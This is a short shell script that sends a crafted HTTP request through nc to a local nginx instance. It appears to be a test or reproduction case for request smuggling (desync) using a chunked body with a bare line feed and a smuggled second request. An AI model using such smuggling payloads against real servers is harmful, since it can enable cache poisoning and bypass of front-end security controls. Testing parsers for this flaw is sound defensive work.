#!/bin/sh
# desync/bare-lf/smuggled-request via stream.concatenate against nginx
printf 'T / HTTP/1.1\r\nHost:127.0.0.1:49285\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\nG / HTTP/1.1\r\nHost:}\r\n\r\n' | nc 127.0.0.1 ${PORT:-49285}
